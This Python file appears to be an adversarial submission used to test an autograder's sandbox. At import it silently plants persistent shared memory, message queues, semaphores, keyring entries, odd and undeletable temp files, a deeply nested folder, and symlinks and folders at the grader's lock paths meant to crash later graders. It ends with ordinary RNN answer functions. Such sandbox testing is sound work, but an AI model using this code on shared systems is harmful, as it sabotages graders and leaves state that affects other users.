"""Attack: leave things behind for the next submission, and trip up the next grader.

At import, every step silently ignoring failure: SysV shared memory, a message queue
(with a message in it) and a semaphore set under a fixed key (IPC_CREAT | 0666); a
POSIX message queue "/agmark" and a POSIX semaphore; a key in the user and session
keyrings (add_key); files and folders in /tmp, /var/tmp, /dev/shm and /run/lock
(hidden names, a name with a newline, one that is not UTF-8, a folder of mode 000, a
folder 1500 levels deep, made through descriptors); a FIFO and a bound unix socket in
/tmp; folders named autograder-sandbox-0.lock and autograder-sandbox-1.lock in
/run/lock (where the grader opens its slot lock files: a folder there used to crash
later graders) and autograder-sandbox-2/3.lock as symbolic links to the harness's
pwned_path. Every answer is correct (12): the sandbox must survive this, and the
harness checks that nothing of it remains.
"""

import ctypes
import json
import os
import platform
import socket

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
PWNED = CONFIG.get("pwned_path", "/tmp/PWNED_persist_ipc")
KEY = 0x41474D4B  # "AGMK"
IPC_CREAT = 0o1000
ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
DONE = []


def step(name, action):
    try:
        result = action()
        DONE.append(f"{name}: {result}")
    except Exception as error:  # noqa: BLE001  every failure is silent
        DONE.append(f"{name}: {type(error).__name__}")


def libc():
    return ctypes.CDLL(None, use_errno=True)


def librt():
    for name in ("librt.so.1", None):
        try:
            lib = ctypes.CDLL(name, use_errno=True)
            lib.mq_open
            return lib
        except (OSError, AttributeError):
            continue
    raise OSError("no mq_open")


def sysv():
    c = libc()
    shm = c.shmget(KEY, 4096, IPC_CREAT | 0o666)
    msq = c.msgget(KEY, IPC_CREAT | 0o666)
    if msq >= 0:
        message = ctypes.create_string_buffer(b"\x01\x00\x00\x00\x00\x00\x00\x00AGMARK persist_ipc")
        c.msgsnd(msq, message, 18, 0o4000)  # IPC_NOWAIT
    sem = c.semget(KEY, 4, IPC_CREAT | 0o666)
    return (shm, msq, sem, ctypes.get_errno())


def posix_queue():
    rt = librt()
    rt.mq_open.restype = ctypes.c_int
    queue = rt.mq_open(b"/agmark", os.O_CREAT | os.O_RDWR, 0o666, None)
    if queue >= 0:
        rt.mq_send(queue, b"AGMARK", 6, 0)
    semaphore = rt.sem_open(b"/agmark", os.O_CREAT, 0o666, 1) if hasattr(rt, "sem_open") else None
    return (queue, semaphore, ctypes.get_errno())


def keyrings():
    c = libc()
    c.syscall.restype = ctypes.c_long
    out = []
    for ring in (-4, -3, -5):  # user, session, user-session keyrings
        out.append(c.syscall(ctypes.c_long(ADD_KEY), b"user", b"agmark_persist", b"AGMARK payload",
                             ctypes.c_long(14), ctypes.c_long(ring)))
    return out


def files():
    made = []
    for base in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        for name in (b"agmark-persist.txt", b".agmark-hidden", b"agmark\nnewline", b"agmark-\xff\xfe"):
            path = os.path.join(base.encode(), name)  # the last name is not UTF-8
            try:
                with open(path, "w") as stream:
                    stream.write("AGMARK persist_ipc\n")
                made.append(path)
            except OSError:
                pass
        try:
            os.makedirs(os.path.join(base, "agmark-dir", "inner"), exist_ok=True)
            with open(os.path.join(base, "agmark-dir", "inner", "file"), "w") as stream:
                stream.write("AGMARK\n")
            os.makedirs(os.path.join(base, "agmark-locked", "inner"), exist_ok=True)
            os.chmod(os.path.join(base, "agmark-locked"), 0)
            made.append(base + "/agmark-dir")
        except OSError:
            pass
    return len(made)


def deep_folder(levels=1500):
    fd = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.mkdir("agmark-deep", dir_fd=fd)
        for _ in range(levels):
            next_fd = os.open("agmark-deep" if _ == 0 else "d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = next_fd
            os.mkdir("d", dir_fd=fd)
    finally:
        os.close(fd)
    return levels


def fifo_and_socket():
    os.mkfifo("/tmp/agmark-fifo", 0o666)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("/tmp/agmark.sock")
    server.close()  # the socket file stays
    return "made"


def slot_locks():
    made = []
    for slot in (0, 1):
        try:
            os.mkdir(f"/run/lock/autograder-sandbox-{slot}.lock", 0o777)
            made.append(slot)
        except OSError:
            pass
    for slot in (2, 3):
        try:
            os.symlink(PWNED, f"/run/lock/autograder-sandbox-{slot}.lock")
            made.append(slot)
        except OSError:
            pass
    return made


for _name, _action in (("sysv", sysv), ("posix queue", posix_queue), ("keyrings", keyrings), ("files", files),
                       ("deep folder", deep_folder), ("fifo+socket", fifo_and_socket), ("slot locks", slot_locks)):
    step(_name, _action)
print("persist_ipc:", "; ".join(DONE))


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (s_dim, s_dim), "W_sx": (s_dim, x_dim), "W_o": (p_dim, s_dim)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return W_sx.T @ (W_o.T @ dloss_dz2)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (s_dim, s_dim + x_dim), "W_ox": (p_dim, s_dim + x_dim)}


def rnn_b_f2(z):
    exps = np.exp(z - np.max(z, axis=0, keepdims=True))
    return exps / np.sum(exps, axis=0, keepdims=True)


def rnn_b_next_input(p_t):
    return p_t


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": True, "all_W_ox": True, "W_ssx": True, "all_W_ssx": False}
